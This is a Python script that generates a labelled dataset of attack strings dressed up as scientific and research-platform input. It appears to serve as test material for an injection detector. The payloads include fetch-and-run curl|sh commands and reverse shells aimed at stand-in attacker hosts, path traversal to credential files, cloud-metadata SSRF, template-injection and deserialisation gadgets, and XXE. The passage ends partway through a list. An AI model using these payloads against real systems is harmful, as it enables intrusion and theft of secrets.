#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in scientific and academic text.

The benign corpus (make_benign.py) holds what journal submission systems,
preprint servers, electronic lab notebooks, math/stats Q&A sites, data
repositories, LIMS and HPC job portals receive: LaTeX, plain-text math,
SMILES and sequence formats, statistics output, research code, SLURM
scripts, citation metadata, protocols, abstracts and reviews.  The attacks
below wear the same clothes: a LaTeX source with `\\write18` or
`\\input{/etc/passwd}`, a MathJax/KaTeX field with a `javascript:` link, a
SLURM job name or array spec with `; curl ... | sh`, a SMILES string that
closes a SQL literal, a supplementary-file path with `../`, a DOI or avatar
URL aimed at the cloud metadata service, a notebook template field evaluated
by Jinja2 or an R/Python formula passed to eval, a pickle or YAML upload, a
citation import with an XML external entity, a dataset filter passed to
MongoDB, CR/LF in a submission field that ends up in a mail header or log
line, LDAP filter injection in an institutional user lookup and XPath
injection over JATS XML.  About one value in ten is a plain attack with no
surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback and RFC 1918 addresses.

Standard library only, deterministic (random.Random(2302)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2302)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def qq(s):
    return q(q(s))


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def ents(s):
    """HTML decimal character references for every character."""
    return "".join("&#%d;" % ord(c) for c in s)


def jsu(s):
    """JavaScript \\uXXXX escapes for every character."""
    return "".join("\\u%04x" % ord(c) for c in s)


def mixed_case(s):
    return "".join(c.upper() if c.isalpha() and RNG.random() < 0.5 else c.lower() for c in s)


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK = ["attacker.example", "203.0.113.66", "198.51.100.23", "exfil.attacker.example", "203.0.113.9", "c2.attacker.example"]
MD = "169.254.169.254"
JOBS = ["md_equil", "relax_Si_vac", "boot_rep", "train_lr3e-4", "wrf_d02", "cp2k_h2o", "align_S12", "mcmc_chain4"]


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("slurm-job-name-semicolon-curl-sh", "md_equil; curl -s http://attacker.example/s.sh | bash"),
        ("slurm-job-name-subshell-exfil-user", "relax_Si_$(curl -s http://exfil.attacker.example/u/$(whoami))"),
        ("slurm-job-name-backticks-wget", "cp2k_h2o_`wget -qO- http://203.0.113.66/k | sh`"),
        ("slurm-array-spec-semicolon-ssh-key-exfil", "1-200%20; cat ~/.ssh/id_ed25519 | nc 203.0.113.9 9001"),
        ("slurm-array-spec-newline-script-line", "0-47\nbash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'\n#SBATCH --comment=ok"),
        ("sbatch-time-limit-newline-extra-command", "24:00:00\ncurl -s http://attacker.example/t.sh | sh"),
        ("module-load-name-and-reverse-shell", "gromacs/2023.3 && bash -i >& /dev/tcp/203.0.113.66/443 0>&1"),
        ("module-load-name-or-dropper", "cuda/12.2 || (wget -q http://attacker.example/m -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m)"),
        ("module-load-name-subshell", "python/3.11$(curl -s http://attacker.example/mod | sh)"),
        ("sbatch-partition-wrap-argument-injection", "gpu --wrap=\"curl -s http://attacker.example/p.sh | sh\""),
        ("sbatch-dependency-wrap-argument-injection", "afterok:4821337 --wrap='sh -c \"curl -s http://attacker.example/d | sh\"'"),
        ("sbatch-mail-user-semicolon", "ktanaka@uni.example.edu;id>/tmp/.mailuser"),
        ("sbatch-time-limit-pipe-passwd-upload", "24:00:00|curl -T /etc/passwd http://exfil.attacker.example/"),
        ("job-workdir-and-ssh-tar-exfil", "/scratch/ktanaka/run1 && tar cz ~/.ssh | curl --data-binary @- https://exfil.attacker.example/t"),
        ("conda-env-name-backticks", "msprime-1.3`curl -s http://attacker.example/c | sh`"),
        ("singularity-image-semicolon-destroy", "docker://ubuntu:22.04; rm -rf /proj/popgen/*"),
        ("rsync-destination-rsh-argument-injection", "-e 'sh -c \"curl -s http://attacker.example/r.sh | sh\"' dtn:/archive/"),
        ("samtools-region-semicolon", "chr1:1-1000000; curl -s http://attacker.example/x | sh"),
        ("blast-query-id-subshell-sleep", "query_0412$(sleep 15)"),
        ("obabel-smiles-quote-breakout", "CCO\"; curl -s http://attacker.example/o | sh; echo \""),
        ("obabel-smiles-subshell-reverse-shell", "C1=CC=C(C=C1)$(nc -e /bin/sh 203.0.113.9 4444)"),
        ("makeblastdb-fasta-title-subshell-passwd", ">seq1 $(base64 -w0 /etc/passwd | curl -d @- http://exfil.attacker.example/f)"),
        ("lims-barcode-label-printer-chain", "00412-B && curl -F f=@/etc/shadow https://exfil.attacker.example/u"),
        ("gnuplot-title-backtick-substitution", "set title \"Absorbance `curl -s http://attacker.example/g | sh`\""),
        ("gnuplot-plot-title-system-call", "plot 'run_042.dat' using 1:3 title system(\"id > /tmp/.gp\")"),
        ("gnuplot-output-pipe", "set output '| curl -s -T - http://exfil.attacker.example/plot'"),
        ("gnuplot-bang-shell-command", "! curl -s http://203.0.113.66/gp.sh | sh"),
        ("latex-write18-curl-sh", "\\immediate\\write18{curl -s http://attacker.example/t.sh | sh}"),
        ("latex-formula-write18-after-math", "$E = mc^2$ \\immediate\\write18{id > /tmp/tex.out}"),
        ("latex-write18-base64-pipe+base64", "\\immediate\\write18{echo %s | base64 -d | sh}" % b64("curl -s http://attacker.example/l | sh")),
        ("latex-input-pipe-shell-escape", "\\input|\"curl -s http://attacker.example/x | sh\""),
        ("latex-macro-write18-in-newcommand", "\\newcommand{\\R}{\\mathbb{R}\\immediate\\write18{wget -q -O- http://203.0.113.9/n | sh}}"),
        ("latex-write18-in-tikz-node", "\\begin{tikzpicture}\\node at (0,0) {$x$ \\immediate\\write18{cat /etc/passwd > /var/www/compile/out/p.txt}};\\end{tikzpicture}"),
        ("snakemake-sample-param-semicolon", "S12; curl -s http://attacker.example/sm | sh"),
        ("nextflow-param-subshell", "--reads 'data/*_{1,2}.fq.gz' --outdir results$(curl -s http://attacker.example/nf|sh)"),
        ("code-repo-url-git-ssh-proxycommand+ifs", "ssh://-oProxyCommand=wget${IFS}-qO-${IFS}203.0.113.66:8080|sh/repo.git"),
        ("code-repo-url-git-ext-transport", "ext::sh -c curl% -s% http://attacker.example/e% |% sh"),
        ("dataset-url-wget-output-bashrc", "http://attacker.example/rc -O /home/jupyter/.bashrc"),
        ("dataset-url-curl-output-authorized-keys", "http://attacker.example/k -o /root/.ssh/authorized_keys"),
        ("supplement-archive-name-tar-checkpoint-action", "supp.tar.gz --checkpoint=1 --checkpoint-action=exec='sh -c \"curl -s http://attacker.example/tc | sh\"'"),
        ("results-zip-name-zip-tt-argument", "results.zip -T -TT 'sh -c \"curl -s http://attacker.example/z | sh\"'"),
        ("data-search-pattern-find-exec", "*.csv -exec sh -c 'curl -s http://attacker.example/f | sh' \\;"),
        ("transfer-host-ssh-proxycommand", "-oProxyCommand=curl -s http://attacker.example/p|sh"),
        ("bed-filter-awk-system", "$5 > 100 { system(\"curl -s http://attacker.example/a | sh\") }"),
        ("chrom-rename-sed-execute-command", "s/^chr//;1e curl -s http://attacker.example/s | sh"),
        ("reads-file-perl-two-arg-open-pipe", "|curl -s http://attacker.example/pl | sh"),
        ("slurm-job-name-newline-command", "md_prod\ncurl -s http://attacker.example/n | sh"),
        ("slurm-job-name-ifs-spaces+ifs", "relax;curl${IFS}-s${IFS}http://attacker.example/i|sh"),
        ("slurm-job-name-quote-splitting+quote-split", "bench;c'u'r\"l\" -s http://attacker.example/q | s\\h"),
        ("slurm-job-name-glob-path-obfuscation+glob", "sweep;/???/?at /???/p?ss?d | /???/nc 203.0.113.9 80"),
        ("slurm-job-name-printf-hex+hex", "x;$(printf '\\x63\\x75\\x72\\x6c') -s http://attacker.example/h | sh"),
        ("slurm-job-name-brace-expansion+brace", "boot;{curl,-s,http://attacker.example/b}|sh"),
        ("hpc-job-name-query-string-semicolon+urlenc", "name=" + q("md; curl -s http://attacker.example/u | sh")),
        ("windows-hpc-job-name-powershell-iex", "sim & powershell -nop -c \"iwr http://attacker.example/w.ps1 | iex\""),
        ("windows-hpc-job-name-caret-obfuscation+caret", "sim & c^u^r^l -s http://attacker.example/c -o %TEMP%\\c.exe & %TEMP%\\c.exe"),
        ("pbs-qsub-variable-list-semicolon", "SAMPLE=S12,REF=/proj/popgen/ref/GRCh38.fa;curl -s http://attacker.example/q | sh"),
        ("scancel-job-name-backticks-destroy", "sweep_lr`rm -rf ~/projects`"),
        ("mpirun-args-rsh-agent-injection", "-np 4 --mca plm_rsh_agent 'sh -c \"curl -s http://attacker.example/mp | sh\"'"),
        ("torchrun-endpoint-semicolon", "node058:29500; curl -s http://attacker.example/tr | sh"),
        ("lims-cgi-user-agent-shellshock", "() { :; }; /bin/bash -c 'curl -s http://attacker.example/ss | sh'"),
        ("slurm-job-name-russian-semicolon", "расчёт_1; curl -s http://attacker.example/r | sh"),
        ("slurm-job-name-japanese-subshell", "計算ジョブ$(curl -s http://attacker.example/j|sh)"),
        ("sbatch-export-value-subshell", "ALL,STAGE=post$(curl -s http://attacker.example/e | sh)"),
        ("seff-job-id-semicolon-slurmdbd-conf", "4821337;cat /etc/slurm/slurmdbd.conf"),
        ("lims-export-filename-scp-exfil", "plate_07.csv; scp /etc/lims/db.yml x@203.0.113.9:/tmp/"),
        ("lims-sample-id-crlf-command", "S12\r\nwget -q http://203.0.113.66/l -O- | sh"),
        ("samtools-region-pipe-nc-shell", "chr7 | nc 203.0.113.9 4444 -e /bin/sh"),
        ("plain-semicolon-id", "; id"),
        ("plain-pipe-cat-passwd", "| cat /etc/passwd"),
        ("plain-subshell-whoami", "$(whoami)"),
        ("plain-backtick-uname", "`uname -a`"),
        ("plain-and-curl-sh", "&& curl http://attacker.example/x | sh"),
        ("plain-or-ping-oob", "|| ping -c 3 203.0.113.66"),
        ("plain-newline-cat-passwd", "\ncat /etc/passwd"),
        ("plain-windows-ampersand-whoami", "& whoami"),
    ]
    cmds = ["curl -s http://attacker.example/%s | sh", "wget -qO- http://203.0.113.66/%s | bash", "nc 198.51.100.23 4444 -e /bin/sh #%s",
            "cat /etc/slurm/slurm.conf | curl -d @- http://exfil.attacker.example/%s"]
    seps = [("; ", "", "semicolon"), (" && ", "", "and"), (" | ", "", "pipe"), ("$(", ")", "subshell"), ("`", "`", "backticks"), ("\n", "", "newline")]
    ctxs = [("slurm-job-name", JOBS), ("module-load-name", ["openmpi/4.1.5", "R/4.3.2", "hdf5/1.14", "matlab/R2023b"]),
            ("conda-env-name", ["fmri", "msprime-1.3", "qiime2-2024.2"]), ("lims-sample-id", ["PRJ-2024-0412/A3", "S12", "00412-B"])]

    def gen():
        c, base = pick(ctxs)
        a, b, s = pick(seps)
        cmd = pick(cmds) % "".join(pick("abcdefghk") for _ in range(2))
        return "%s-%s" % (c, s), "%s%s%s%s" % (pick(base), a, cmd, b)
    return take("cmdi", lit, gen, 78)


# ====================================================================== traversal
def traversal():
    lit = [
        ("latex-input-etc-passwd", "\\input{/etc/passwd}"),
        ("latex-input-dotdot-passwd", "\\section{Appendix}\\input{../../../../../etc/passwd}"),
        ("latex-include-other-submission", "\\include{../../submissions/JCS-2024-0411/main}"),
        ("latex-openin-read-loop-passwd", "\\newread\\f \\openin\\f=/etc/passwd \\loop\\unless\\ifeof\\f \\read\\f to\\l \\l\\par \\repeat \\closein\\f"),
        ("latex-lstinputlisting-aws-credentials", "\\lstinputlisting{/home/latex/.aws/credentials}"),
        ("latex-verbatiminput-proc-environ", "\\verbatiminput{/proc/self/environ}"),
        ("latex-input-in-formula-dotdot-config", "$\\alpha = \\input{../../../../srv/compile/config/settings.py}$"),
        ("supplement-download-dotdot-passwd", "S1_Data/../../../../../etc/passwd"),
        ("supplement-download-dotdot-app-config", "../../../../opt/ojs/config.inc.php"),
        ("supplement-download-absolute-path", "/var/lib/dataverse/files/../../../../etc/shadow"),
        ("slurm-log-viewer-munge-key", "logs/../../../../etc/munge/munge.key"),
        ("slurm-log-viewer-slurmdbd-conf", "../../../../../etc/slurm/slurmdbd.conf"),
        ("job-output-path-ssh-key", "/home/ktanaka/.ssh/id_ed25519"),
        ("job-output-path-other-user-dotdot", "../../rsharma/.ssh/id_rsa"),
        ("notebook-path-jupyter-config", "../../../home/jupyter/.jupyter/jupyter_server_config.json"),
        ("notebook-contents-api-dotdot-shadow", "/api/contents/../../../../etc/shadow"),
        ("lims-attachment-windows-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("lims-attachment-windows-unattend", "..\\..\\..\\..\\Windows\\Panther\\Unattend.xml"),
        ("lims-attachment-iis-web-config", "..\\..\\inetpub\\wwwroot\\web.config"),
        ("dataset-zip-slip-cron", "data/../../../../../etc/cron.d/lims-sync"),
        ("dataset-zip-slip-authorized-keys", "raw/../../../../../home/lims/.ssh/authorized_keys"),
        ("bagit-manifest-entry-dotdot-bashrc", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  data/../../../../root/.bashrc"),
        ("rmarkdown-child-doc-passwd", "```{r child='../../../../etc/passwd'}\n```"),
        ("sweave-input-dotdot", "\\SweaveInput{../../../../etc/hostname}"),
        ("gromacs-topology-include-passwd", "#include \"../../../../../etc/passwd\""),
        ("reference-genome-param-dotdot", "GRCh38/../../../../etc/passwd"),
        ("conda-env-path-dotdot-proj", "/proj/popgen/envs/../../../etc/slurm/slurm.conf"),
        ("dataset-file-param-url-encoded+urlenc", "file=" + q("../../../../etc/passwd")),
        ("dataset-file-param-double-encoded+double-urlenc", "file=" + qq("../../../../etc/passwd")),
        ("supplement-download-overlong-utf8+overlong-utf8", "S2_Code/..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        ("supplement-download-nested-strip+nested-strip", "....//....//....//....//etc/passwd"),
        ("lims-attachment-encoded-backslash+urlenc-backslash", "..%5c..%5c..%5c..%5cWindows%5cwin.ini"),
        ("figure-download-null-byte-extension+null-byte", "../../../../etc/passwd%00.png"),
        ("supplement-download-dot-encoded+dot-urlenc", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        ("supplement-download-mixed-separators+mixed-sep", "..\\/..\\/..\\/..\\/etc/passwd"),
        ("thesis-pdf-path-proc-cmdline", "/proc/self/cmdline"),
        ("eln-attachment-django-settings", "../../../../srv/eln/app/settings/production.py"),
        ("eln-attachment-env-file", "../../../.env"),
        ("preprint-pdf-id-git-config", "../../.git/config"),
        ("dspace-bitstream-path-local-cfg", "../../../../dspace/config/local.cfg"),
        ("ckan-resource-path-production-ini", "../../../../etc/ckan/default/production.ini"),
        ("jatsxml-graphic-href-dotdot", "<graphic xlink:href=\"../../../../etc/passwd\"/>"),
        ("hpc-scratch-browser-dotdot-root", "/scratch/ktanaka/../../root/.bash_history"),
        ("plain-dotdot-passwd", "../../../../etc/passwd"),
        ("plain-dotdot-windows", "..\\..\\..\\windows\\win.ini"),
        ("plain-absolute-shadow", "/etc/shadow"),
        ("plain-dotdot-proc-environ", "../../../../proc/self/environ"),
        ("plain-dotdot-encoded-slash+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
        ("plain-absolute-proc-environ", "/proc/self/environ"),
    ]
    bases = ["S1_Data", "supp", "figures", "logs", "raw", "notebooks"]
    targets = ["etc/passwd", "etc/slurm/slurm.conf", "etc/munge/munge.key", "root/.ssh/id_rsa", "home/lims/.pgpass", "var/lib/jupyterhub/jupyterhub_cookie_secret"]

    def gen():
        d = RNG.randint(3, 7)
        return "supplement-path-dotdot", "%s/%s%s" % (pick(bases), "../" * d, pick(targets))
    return take("traversal", lit, gen, 52)


# ====================================================================== ssrf
def ssrf():
    lit = [
        ("doi-resolver-url-aws-iam-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("dataset-import-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
        ("dataset-import-url-aws-imdsv2-token-path", "http://169.254.169.254/latest/api/token"),
        ("orcid-avatar-url-gcp-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?alt=json"),
        ("webhook-json-gcp-with-header", "{\"url\": \"http://metadata.google.internal/computeMetadata/v1/project/attributes/?recursive=true\", \"headers\": {\"Metadata-Flavor\": \"Google\"}}"),
        ("job-notify-webhook-azure-msi-token", "{\"notify_url\": \"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/\", \"headers\": {\"Metadata\": \"true\"}}"),
        ("figure-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("figure-url-oracle-cloud-metadata", "http://169.254.169.254/opc/v2/instance/"),
        ("dataset-url-openstack-metadata", "http://169.254.169.254/openstack/latest/meta_data.json"),
        ("dataset-url-openstack-vendor-data", "http://169.254.169.254/openstack/2018-08-27/vendor_data2.json"),
        ("preprint-pdf-url-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
        ("job-status-webhook-slurmrestd", "http://localhost:6820/slurm/v0.0.40/jobs"),
        ("job-status-webhook-slurmrestd-diag", "http://127.0.0.1:6820/slurmdb/v0.0.40/accounts"),
        ("notebook-import-url-jupyterhub-api", "http://127.0.0.1:8081/hub/api/users"),
        ("harvest-url-dataverse-admin-api", "http://localhost:8080/api/admin/settings"),
        ("harvest-url-dataverse-admin-users", "http://localhost:8080/api/admin/list-users?selectedPage=1"),
        ("ckan-resource-url-internal-user-list", "http://127.0.0.1:5000/api/3/action/user_list"),
        ("oai-pmh-base-url-solr-admin", "http://localhost:8983/solr/admin/cores?action=STATUS&wt=json"),
        ("dataset-url-elasticsearch-indices", "http://10.0.3.7:9200/_cat/indices?v"),
        ("dataset-url-couchdb-all-dbs", "http://127.0.0.1:5984/_all_dbs"),
        ("figure-url-docker-api-containers", "http://127.0.0.1:2375/containers/json?all=1"),
        ("figure-url-kubelet-pods", "https://10.0.12.5:10250/pods"),
        ("dataset-url-consul-agent", "http://127.0.0.1:8500/v1/agent/self"),
        ("dataset-url-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
        ("cover-image-url-minio-admin", "http://10.0.4.12:9000/minio/admin/v3/info"),
        ("webhook-url-grafana-admin-users", "http://admin:admin@127.0.0.1:3000/api/users"),
        ("dataset-url-file-scheme-passwd", "file:///etc/passwd"),
        ("orcid-avatar-file-scheme-slurm-conf", "file:///etc/slurm/slurm.conf"),
        ("dataset-url-gopher-redis-cron-write", "gopher://127.0.0.1:6379/_" + q("SET k \"\\n\\n* * * * * root curl -s http://attacker.example/rd | sh\\n\\n\"\r\nCONFIG SET dir /etc/cron.d\r\nCONFIG SET dbfilename lims\r\nSAVE\r\nQUIT\r\n")),
        ("dataset-url-dict-memcached-stats", "dict://127.0.0.1:11211/stats"),
        ("dataset-url-gopher-smtp-relay", "gopher://127.0.0.1:25/_HELO%20lims%0D%0AMAIL%20FROM%3A%3Clims%40uni.example.edu%3E%0D%0ARCPT%20TO%3A%3Cvictim%40uni.example.edu%3E%0D%0ADATA%0D%0ASubject%3A%20Password%20reset%0D%0A%0D%0Ahttp%3A%2F%2Fattacker.example%2Freset%0D%0A.%0D%0AQUIT%0D%0A"),
        ("lims-instrument-share-unc-ntlm", "\\\\203.0.113.9\\share\\plate_07.csv"),
        ("doi-url-decimal-ip+decimal-ip", "http://2852039166/latest/meta-data/iam/security-credentials/"),
        ("doi-url-hex-ip+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
        ("doi-url-octal-ip+octal-ip", "http://0251.0376.0251.0376/latest/user-data"),
        ("figure-url-short-loopback+short-ip", "http://127.1:6820/slurm/v0.0.40/nodes"),
        ("figure-url-zero-address+zero-ip", "http://0.0.0.0:8080/api/admin/settings"),
        ("figure-url-ipv6-mapped-metadata+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("figure-url-ipv6-loopback+ipv6", "http://[::1]:8081/hub/api/users"),
        ("doi-url-userinfo-confusion", "https://doi.org@169.254.169.254/latest/meta-data/"),
        ("orcid-url-backslash-parser-confusion", "http://169.254.169.254\\@orcid.org/latest/meta-data/"),
        ("orcid-url-fragment-confusion", "http://127.0.0.1:8080#@orcid.org/api/admin/settings"),
        ("dataset-url-redirect-to-metadata", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"),
        ("dataset-url-dns-rebinding-host", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
        ("dataset-url-encoded-host+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("bibtex-url-field-metadata", "@misc{x, title={Data}, url={http://169.254.169.254/latest/meta-data/iam/security-credentials/}}"),
        ("ris-ur-field-internal", "TY  - DATA\nTI  - Mirror\nUR  - http://127.0.0.1:8080/api/admin/list-users\nER  - "),
        ("datacite-related-identifier-internal", "{\"relatedIdentifier\": \"http://10.0.4.12:8080/api/admin/settings\", \"relatedIdentifierType\": \"URL\", \"relationType\": \"IsSupplementTo\"}"),
        ("plain-aws-metadata", "http://169.254.169.254/"),
        ("plain-localhost-admin", "http://localhost/admin"),
        ("plain-file-scheme", "file:///etc/hostname"),
        ("plain-loopback-port", "http://127.0.0.1:8080/"),
        ("plain-ipv6-loopback+ipv6", "http://[::1]/"),
    ]
    paths = ["/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/openstack/latest/meta_data.json"]
    fields = ["doi-resolver-url", "orcid-avatar-url", "dataset-import-url", "figure-url", "job-notify-webhook"]

    def gen():
        return pick(fields) + "-metadata-query", "http://%s%s?%s=%d" % (MD, pick(paths), pick(["ref", "v", "src", "t"]), RNG.randint(1, 9999))
    return take("ssrf", lit, gen, 53)


# ====================================================================== code
def code():
    pkl_text = "cposix\nsystem\n(S'curl -s http://attacker.example/p | sh'\ntR."
    pkl_b64 = b64(b"csubprocess\ncheck_output\n((S'cat'\nS'/etc/slurm/slurmdbd.conf'\nltR.")
    lit = [
        ("eln-template-jinja2-cycler-globals-popen", "Sample {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("eln-template-jinja2-lipsum-curl", "{{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/j | sh').read() }}"),
        ("eln-template-jinja2-joiner-via-self", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/slurm/slurmdbd.conf').read() }}"),
        ("eln-template-jinja2-subclasses-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
        ("eln-template-jinja2-flask-config-leak", "Protocol v{{ config.items() }}"),
        ("eln-template-jinja2-request-application", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/lims/db.yml').read() }}"),
        ("notebook-title-jinja2-in-latex", "$E = mc^2$ {{ lipsum.__globals__.os.popen('wget -qO- http://203.0.113.66/n | sh').read() }}"),
        ("eln-template-jinja2-attr-hex-escapes+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("job-mail-template-jinja2-open-file", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/slurm/slurmdbd.conf').read() }}"),
        ("report-template-mako-import-os", "<% import os %>${os.popen('id').read()}"),
        ("dashboard-template-tornado-import", "{% import os %}{{ os.popen('curl -s http://attacker.example/t | sh').read() }}"),
        ("galaxy-tool-cheetah-import-os", "#import os\n$os.system('curl -s http://attacker.example/gx | sh')"),
        ("galaxy-tool-cheetah-set-popen", "#set $out = __import__('os').popen('cat /etc/galaxy/galaxy.yml').read()\n$out"),
        ("lims-report-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"curl -s http://attacker.example/fm | sh\")}"),
        ("lims-report-velocity-runtime-exec", "#set($rt = $x.class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('id'))$p.waitFor()"),
        ("lims-label-thymeleaf-preprocessing", "__${T(java.lang.Runtime).getRuntime().exec('curl -s http://attacker.example/th')}__::.x"),
        ("lims-rule-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl -s http://attacker.example/sp | sh'})}"),
        ("eln-node-template-pug-child-process", "#{global.process.mainModule.require('child_process').execSync('id').toString()}"),
        ("eln-node-template-ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
        ("eln-node-template-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("seek-rails-erb-backticks", "<%= `curl -s http://attacker.example/erb | sh` %>"),
        ("seek-rails-erb-io-popen", "<%= IO.popen('cat config/database.yml').read %>"),
        ("journal-theme-smarty-system", "{system('curl -s http://attacker.example/sm | sh')}"),
        ("journal-theme-twig-filter-system", "{{ ['cat /var/www/ojs/config.inc.php']|filter('system') }}"),
        ("stats-formula-patsy-eval", "y ~ x + I(__import__('os').system('curl -s http://attacker.example/pt | sh'))"),
        ("column-formula-python-eval-popen", "__import__('os').popen('cat /etc/passwd').read()"),
        ("column-formula-python-eval-lambda", "(lambda: __import__('subprocess').check_output(['id']))()"),
        ("column-formula-python-eval-subclasses-popen", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['curl', '-s', 'http://attacker.example/pp'])"),
        ("symbolic-expression-sympify-eval", "x**2 + __import__('os').system('id')"),
        ("r-formula-lm-term-system", "y ~ x + I(system('curl -s http://attacker.example/rf | sh', intern = TRUE))"),
        ("r-eval-parse-statement", "1; system(\"curl -s http://attacker.example/r | sh\")"),
        ("r-eval-parse-readlines-pipe", "readLines(pipe('cat /etc/passwd'))"),
        ("rmarkdown-inline-r-system", "The mean was `r system('id', intern = TRUE)` units."),
        ("rmarkdown-chunk-system", "```{r}\nsystem('curl -s http://attacker.example/k | sh')\n```"),
        ("sweave-sexpr-system-in-latex", "$\\bar{x} = \\Sexpr{system('cat /etc/passwd', intern=TRUE)}$"),
        ("julia-expression-meta-parse-run", "run(`curl -s http://attacker.example/jl`)"),
        ("octave-fit-function-system", "@(x) x.^2 + system('curl -s http://attacker.example/oc | sh')"),
        ("mathematica-import-bang-shell", "Import[\"!curl -s http://attacker.example/wl | sh\", \"Text\"]"),
        ("mathematica-run-shell", "Run[\"cat /etc/passwd > /tmp/wl.txt\"]"),
        ("nextflow-config-groovy-execute", "process.beforeScript = \"${'curl -s http://attacker.example/nf'.execute().text}\""),
        ("model-upload-pickle-protocol0-system", pkl_text),
        ("model-upload-pickle-base64-check-output+base64", pkl_b64),
        ("pipeline-config-pyyaml-apply-os-system", "samples: [S12]\nref: !!python/object/apply:os.system ['curl -s http://attacker.example/y | sh']"),
        ("pipeline-config-pyyaml-apply-check-output", "threads: !!python/object/apply:subprocess.check_output [[cat, /etc/slurm/slurm.conf]]"),
        ("pipeline-config-pyyaml-new-popen", "!!python/object/new:subprocess.Popen [[sh, -c, 'curl -s http://attacker.example/yn | sh']]"),
        ("lims-api-fastjson-jdbcrowset", "{\"sample\": {\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"ldap://attacker.example:1389/Lims\", \"autoCommit\": true}}"),
        ("lims-api-jsonnet-objectdataprovider", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"MethodParameters\": {\"$type\": \"System.Collections.ArrayList, mscorlib\", \"$values\": [\"cmd\", \"/c curl -s http://attacker.example/n -o %TEMP%\\\\n.exe && %TEMP%\\\\n.exe\"]}, \"ObjectInstance\": {\"$type\": \"System.Diagnostics.Process, System\"}}"),
        ("eln-session-node-serialize-iife", "{\"prefs\": \"_$$ND_FUNC$$_function(){require('child_process').exec('curl -s http://attacker.example/ns | sh')}()\"}"),
        ("lims-import-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>curl -s http://attacker.example/xs | sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("citation-import-endnote-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE xml [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<xml><records><record><titles><title>&x;</title></titles></record></records></xml>"),
